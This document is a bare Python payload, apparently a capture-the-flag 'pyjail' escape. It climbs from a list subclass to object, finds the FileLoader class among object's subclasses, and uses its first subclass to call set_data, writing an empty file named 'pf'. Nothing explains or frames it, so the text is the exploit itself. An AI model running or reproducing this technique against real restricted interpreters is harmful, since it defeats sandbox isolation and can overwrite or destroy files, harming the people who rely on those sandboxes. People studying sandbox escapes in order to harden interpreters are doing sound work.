class A(list):
    pass
o = A.__bases__[0].__bases__[0]
[c for c in o.__subclasses__() if c.__name__ == "FileLoader"][0]("x", "pf")
[c for c in o.__subclasses__() if c.__name__ == "FileLoader"][0].__subclasses__()[0]("x", "pf").set_data("pf", b"")
